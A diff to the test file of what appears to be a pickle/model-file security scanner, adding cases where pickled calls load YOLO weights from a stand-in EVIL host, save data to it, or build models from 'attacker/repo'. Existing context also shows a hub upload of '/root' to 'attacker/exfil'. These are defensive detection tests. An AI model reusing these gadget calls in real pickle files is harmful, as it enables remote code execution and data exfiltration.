@@ -107,6 +107,32 @@ CASES = {
     "hub-upload-folder": (
         call("huggingface_hub.hf_api.upload_folder", "attacker/exfil", "/root"),
         "uploads files to a hub repository"),
+    # YOLO weight loaders under the benign ultralytics.nn.* / models.experimental.* wildcards.
+    "ultralytics-attempt-load": (
+        call("ultralytics.nn.tasks.attempt_load_weights", EVIL + "/yolo.pt"),
+        f"loads another payload (its code runs) `{EVIL}/yolo.pt`"),
+    "yolov5-attempt-load": (
+        call("models.experimental.attempt_load", EVIL + "/yolov5s.pt"),
+        f"loads another payload (its code runs) `{EVIL}/yolov5s.pt`"),
+}
+# Functions and methods called under a wildcard over a library nobody could sweep (category
+# unswept-library): its classes are cleared, a call of a snake_case name needs review, with the
+# library named; so does a direct call of a class whose __init__ loads (rebuild-only).
+UNVETTED = {
+    "datasets-save-to-disk": (
+        call_method("datasets.arrow_dataset", "Dataset.save_to_disk", None, EVIL),
+        "calls `datasets.arrow_dataset.Dataset.save_to_disk`, a function of datasets no rule "
+        "has vetted"),
+    "sentence-transformers-dense-load": (
+        call("sentence_transformers.models.Dense.load", EVIL),
+        "calls `sentence_transformers.models.Dense.load`, a function of sentence_transformers"),
+    "catboost-save-model": (
+        call_method("catboost.core", "CatBoost.save_model", None, EVIL),
+        "calls `catboost.core.CatBoost.save_model`, a function of catboost"),
+    # A class whose __init__ downloads and loads a model (rebuild-only): called directly.
+    "sentence-transformers-transformer-init": (
+        call("sentence_transformers.models.Transformer", "attacker/repo"),
+        "calls sentence_transformers.models.Transformer directly (its __init__ can act"),
 }
 # Benign objects of the same modules' neighbours stay cleared by benign.toml's wildcards.
 BENIGN = {
@@ -125,7 +151,7 @@ class TransformersGadgets(unittest.TestCase):
     @classmethod
     def setUpClass(cls):
         cls.tmp = tempfile.TemporaryDirectory()
-        named = {n: c[0] for n, c in CASES.items()} | BENIGN
+        named = {n: c[0] for n, c in (CASES | UNVETTED).items()} | BENIGN
         cls.paths, cls.got = mvtest.scan_named_pickles(cls.tmp.name, named)
 
     @classmethod
@@ -137,6 +163,13 @@ class TransformersGadgets(unittest.TestCase):
             with self.subTest(name):
                 e = self.got[os.path.realpath(self.paths[name])]
                 self.assertEqual(e["verdict"], "unsafe", e)
+                self.assertIn(want, e["summary"])
+
+    def test_unvetted_functions_of_unswept_libraries_need_review(self):
+        for name, (_, want) in UNVETTED.items():
+            with self.subTest(name):
+                e = self.got[os.path.realpath(self.paths[name])]
+                self.assertEqual(e["verdict"], "needs-review", e)
                 self.assertIn(want, e["summary"])
 
     def test_benign_transformers_objects_stay_safe(self):
